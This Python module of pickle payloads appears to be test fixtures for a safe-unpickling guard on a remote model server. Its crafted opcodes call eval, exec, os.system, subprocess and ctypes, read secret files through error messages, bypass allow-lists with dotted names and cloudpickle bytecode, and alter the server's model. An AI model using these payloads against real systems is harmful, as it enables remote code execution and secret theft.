"""Attacks in the payload itself: pickles that call functions by name, before any block runs.

A secret comes back in the text of the resulting error; a program leaves a file.
"""

from __future__ import annotations

import pickle
from typing import Any


class _Call:
    """In a payload: a function named by its module and name, and called."""

    def __init__(self, module: str, name: str, *arguments: Any) -> None:
        self.module, self.name, self.arguments = module, name, arguments


def _payload(value: Any) -> bytes:
    return b"\x80\x04" + _written(value) + b"."


def _written(value: Any) -> bytes:
    if isinstance(value, _Call):
        arguments = b"(" + b"".join(map(_written, value.arguments)) + b"t"
        return _named(value.module, value.name) + arguments + b"R"
    if isinstance(value, _Raw):
        return value.opcodes
    if isinstance(value, tuple):
        return b"(" + b"".join(map(_written, value)) + b"t"
    if isinstance(value, list):
        return b"](" + b"".join(map(_written, value)) + b"e"
    if isinstance(value, dict):
        return b"}(" + b"".join(_written(k) + _written(v) for k, v in value.items()) + b"u"
    return pickle.dumps(value, 3)[2:-1]


def _named(module: str, name: str) -> bytes:
    return _written(module) + _written(name) + b"\x93"


class _Raw:
    """In a payload: raw opcodes."""

    def __init__(self, opcodes: bytes) -> None:
        self.opcodes = opcodes


def _function(module: str, name: str) -> _Raw:
    return _Raw(_named(module, name))


def _told(secret_file: str) -> str:
    """Return an expression whose error contains the secret."""
    return f"int(open({secret_file!r}).read())"


def calls_eval(secret_file: str) -> bytes:
    """builtins.eval"""
    return _payload(_Call("builtins", "eval", _told(secret_file)))


def calls_exec(secret_file: str) -> bytes:
    """builtins.exec"""
    return _payload(_Call("builtins", "exec", _told(secret_file)))


def calls_import_and_getattr(secret_file: str) -> bytes:
    """builtins.__import__ and builtins.getattr, one in the other"""
    module = _Call("builtins", "__import__", "io")
    opened = _Call("builtins", "getattr", module, "open")
    return _payload(_Call("builtins", "int", _Call("builtins", "next", _Map(opened, secret_file))))


class _Map(_Call):
    """map() over map(): a call of a call's result."""

    def __init__(self, function: Any, argument: Any) -> None:
        opened = _Call("builtins", "next", _Call("builtins", "map", function, [argument]))
        read = _Call("operator", "methodcaller", "read")
        super().__init__("builtins", "map", read, [opened])


def calls_open(secret_file: str) -> bytes:
    """io.open, and an error that contains the content"""
    opened = _Call("io", "open", secret_file)
    read = _Call("builtins", "map", _Call("operator", "methodcaller", "read"), [opened])
    return _payload(_Call("builtins", "int", _Call("builtins", "next", read)))


def calls_attrgetter(secret_file: str) -> bytes:
    """operator.attrgetter of a module, called through map"""
    getter = _Call("operator", "attrgetter", "builtins.eval")
    results = _Call("builtins", "map", getter, [_Call("importlib", "import_module", "torch")])
    called = _Call("builtins", "map", _Call("builtins", "next", results), [_told(secret_file)])
    return _payload(_Call("builtins", "next", called))


def calls_partial(secret_file: str) -> bytes:
    """functools.partial, called by functools.reduce"""
    partial = _Call("functools", "partial", _function("builtins", "eval"), _told(secret_file))
    return _payload(_Call("functools", "reduce", partial, [{}, {}]))


def calls_system(canary_folder: str) -> bytes:
    """os.system"""
    return _payload(_Call("os", "system", f"touch {canary_folder}/new"))


def calls_posix_system(canary_folder: str) -> bytes:
    """posix.system, which is os.system under its C module's name"""
    return _payload(_Call("posix", "system", f"touch {canary_folder}/new"))


def calls_popen(canary_folder: str) -> bytes:
    """subprocess.Popen"""
    return _payload(_Call("subprocess", "check_output", ["touch", f"{canary_folder}/new"]))


def calls_pydoc(canary_folder: str) -> bytes:
    """pydoc.pipepager, which runs a shell"""
    return _payload(_Call("pydoc", "pipepager", "", f"touch {canary_folder}/new"))


def calls_timeit(secret_file: str) -> bytes:
    """timeit.timeit, which is exec"""
    return _payload(_Call("timeit", "timeit", _told(secret_file)))


def calls_runpy(secret_file: str) -> bytes:
    """runpy.run_path: the error shows the line"""
    return _payload(_Call("runpy", "run_path", secret_file))


def calls_linecache(secret_file: str) -> bytes:
    """linecache.getline"""
    return _payload(_Call("builtins", "int", _Call("linecache", "getline", secret_file, 1)))


def calls_a_library(canary_folder: str) -> bytes:
    """ctypes: a function of the C library, by name"""
    libc = _Call("ctypes", "CDLL", None)
    system = _Call("builtins", "getattr", libc, "system")
    command = f"touch {canary_folder}/new".encode()
    return _payload(_Call("builtins", "list", _Call("builtins", "map", system, [command])))


def calls_torch_load(secret_file: str) -> bytes:
    """torch.storage._load_from_bytes: a nested pickle"""
    import io

    import torch

    class Gadget:
        def __reduce__(self) -> Any:
            return eval, (_told(secret_file),)

    within = io.BytesIO()
    torch.save(Gadget(), within)
    return _payload(_Call("torch.storage", "_load_from_bytes", within.getvalue()))


def calls_pickle_loads(secret_file: str) -> bytes:
    """pickle.loads: a nested pickle"""
    within = _payload(_Call("builtins", "eval", _told(secret_file)))
    return _payload(_Call("_pickle", "loads", within))


def calls_fx(secret_file: str) -> bytes:
    """torch.fx.graph_module.reduce_graph_module, which runs the given imports"""
    body = {"_code": "def forward(self): pass"}
    return _payload(
        _Call("torch.fx.graph_module", "reduce_graph_module", body, _told(secret_file) + "\n")
    )


def calls_a_dynamo_helper(secret_file: str) -> bytes:
    """torch.fx.graph_module._forward_from_src, which is exec"""
    source = f"{_told(secret_file)}\ndef forward(): pass"
    return _payload(_Call("torch.fx.graph_module", "_forward_from_src", source, {}, None))


def calls_numpy_testing(secret_file: str) -> bytes:
    """numpy.testing's runstring, which is exec"""
    return _payload(_Call("numpy.testing._private.utils", "runstring", _told(secret_file), {}))


def calls_numpy_f2py(secret_file: str) -> bytes:
    """numpy.f2py's getlincoef, which is eval"""
    expression = f"({_told(secret_file)})*x"
    return _payload(_Call("numpy.f2py.crackfortran", "myeval", expression, {}, {}))


def calls_sympy(secret_file: str) -> bytes:
    """sympy.sympify, which is eval"""
    text = f"__import__('builtins').int(__import__('io').open({secret_file!r}).read())"
    return _payload(_Call("sympy", "sympify", text))


def names_with_dots(secret_file: str) -> bytes:
    """a dotted name, which leads from an allowed module to a forbidden function"""
    return _payload(_Call("torch", "builtins.eval", _told(secret_file)))


def names_with_dots_in_nnsight(secret_file: str) -> bytes:
    """a dotted name in the client's package"""
    opened = _Call("nnsight.intervention.serialization", "linecache.getline", secret_file, 1)
    return _payload(_Call("builtins", "int", opened))


def calls_code(secret_file: str) -> bytes:
    """a function pickled by cloudpickle as unguarded bytecode"""
    import cloudpickle

    def attack(file: str) -> object:
        return int(open(file).read())  # noqa: PTH123

    attack.__module__ = "__main__"
    function = cloudpickle.dumps(attack, protocol=4)
    return function[:-1] + _written((secret_file,)) + b"R."


def calls_code_in_a_class(secret_file: str) -> bytes:
    """a class pickled by cloudpickle, whose __setstate__ is bytecode"""
    import cloudpickle

    class Attack:
        def __setstate__(self, state: str) -> None:
            int(open(state).read())  # noqa: PTH123, SIM115

        def __reduce__(self) -> Any:
            return type(self), (), secret_file

    Attack.__module__ = "__main__"
    content: bytes = cloudpickle.dumps(Attack(), protocol=4)
    return content


def calls_code_with_types(secret_file: str) -> bytes:
    """types.CodeType and types.FunctionType, taken from cloudpickle's table"""
    import cloudpickle

    source = compile(_told(secret_file), "attack", "eval")
    arguments = cloudpickle.cloudpickle._code_reduce(source)[1]
    code = _Call("types", "CodeType", *arguments)
    return _payload(_Call("builtins", "eval", code))


def calls_compile_of_nnsight(secret_file: str) -> bytes:
    """nnsight's loader of functions, with unguarded source; the function is then called"""
    source = f"def attack(key): return {_told(secret_file)}"
    function = _Call(
        "nnsight.intervention.serialization",
        "_load_function",
        *(source, "attack", None, None, None, "attack.py", 1),
    )
    return _payload(_Call("builtins", "list", _Call("builtins", "map", function, [1])))


def registers_a_reducer(secret_file: str) -> bytes:
    """copyreg.add_extension, and a call by its number"""
    from struct import pack

    eval_ = _Call("copyreg", "add_extension", "builtins", "eval", 4242)
    by_number = b"\x84" + pack("<I", 4242)
    call = by_number + _written((_told(secret_file),)) + b"R"
    return b"\x80\x04" + _written(eval_) + b"0" + call + b"."


def makes_an_instance(secret_file: str) -> bytes:
    """the opcodes INST and OBJ, older ways to call"""
    return b"(" + _written(_told(secret_file)) + b"ibuiltins\neval\n."


def makes_a_new_object(canary_folder: str) -> bytes:
    """NEWOBJ of subprocess.Popen, and its __init__ by BUILD"""
    arguments = ["touch", f"{canary_folder}/new"]
    return (
        _payload(_Call("copyreg", "__newobj__", _function("subprocess", "Popen"), arguments))[:-1]
        + b"0"
        + _written(_Call("subprocess", "Popen", arguments))
        + b"."
    )


def changes_a_module() -> bytes:
    """BUILD, which sets attributes: of torch itself"""
    return (
        b"\x80\x04"
        + _written(_Call("importlib", "import_module", "torch"))
        + (_written({"initial_seed": None}) + b"b.")
    )


def changes_a_default() -> bytes:
    """torch.set_default_dtype"""
    return _payload(_Call("torch", "set_default_dtype", _function("torch", "float64")))


_LAYER = "Module:model.transformer.h.1.mlp"
"""The persistent id of a part of the model."""


class _Held(_Raw):
    """In a payload: an object of the server, by its persistent id."""

    def __init__(self, name: str) -> None:
        super().__init__(_written(name) + b"Q")


def _module(cls: str, state: dict[str, Any]) -> _Raw:
    """Return opcodes that make a torch module with NEWOBJ and BUILD, as a client sends it."""
    module = _named("torch.nn.modules.container", cls) + b")\x81"
    return _Raw(module + _written(state) + b"b")


def changes_a_module_of_the_model() -> bytes:
    """BUILD: a new forward for a module of the model"""
    state = _written({"forward": _function("builtins", "abs")})
    return b"\x80\x04" + _Held(_LAYER).opcodes + state + b"b."


def changes_the_model_within_a_module() -> bytes:
    """a new module around one of the model's modules, then another precision for both"""
    names = ("_parameters", "_buffers", "_backward_hooks", "_forward_hooks", "_forward_pre_hooks")
    around = _module(
        "Sequential", {**{name: {} for name in names}, "_modules": {"0": _Held(_LAYER)}}
    )
    half = _Call("builtins", "getattr", around, "half")
    return b"\x80\x04" + _written(half) + b")R."
